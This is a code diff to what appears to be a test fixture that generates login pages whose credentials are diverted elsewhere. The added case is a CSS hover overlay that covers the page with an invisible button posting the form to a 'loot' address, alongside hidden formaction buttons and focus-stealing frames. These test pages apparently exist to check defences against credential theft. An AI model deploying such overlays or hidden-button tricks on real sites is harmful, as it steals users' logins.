@@ -57,6 +57,7 @@ SHAPES = {
     "taken-unseen-window": ("login", "the same, and its answer is shown in another window"),
     "taken-unseen-frame": ("login", "the same, and its answer is shown in a frame of another server"),
     "taken-unseen-owner": ("login", "the fields belong to another form, by their attribute"),
+    "taken-hover": ("login", "the mouse brings another button over the one that it was moved to"),
     "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
     "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
 }
@@ -65,6 +66,8 @@ UNSEEN = {
     shape: f'<button style="display: none" formaction="{{loot}}" {how}></button>' for shape, how in {
         "taken-unseen": "", "taken-unseen-get": 'formmethod="get"', "taken-unseen-window": 'formtarget="_blank"',
         "taken-unseen-frame": 'formtarget="inner"', "taken-unseen-owner": 'form="owner"'}.items()}
+HOVER = ('<style>#over { display: none } form:hover #over { display: block; position: fixed; inset: 0; z-index: 9 }</style>'
+         '<button id="over" formaction="{loot}" formtarget="_blank"></button>')
 # Logins whose server redirects what was sent to another one (307, 308): what differs from a form with two fields.
 TAKEN_BY_REDIRECT = {
     "taken-redirect": ("the form as it is", {}),
@@ -179,7 +182,7 @@ def taken(visit, shape):
         else "scripted/loot" if shape == "taken-base" else "/scripted/honest",
         "send": "" if shape in UNSEEN else '<button type="submit" %s>Sign in</button>' % {
             "taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
-        "unseen": UNSEEN.get(shape, "").replace("{loot}", loot),
+        "unseen": (HOVER if shape == "taken-hover" else UNSEEN.get(shape, "")).replace("{loot}", loot),
         "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", "").replace("{loot}", loot),
         "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
         else f'<iframe name="inner" src="{loot}"></iframe>' if shape == "taken-unseen-frame"
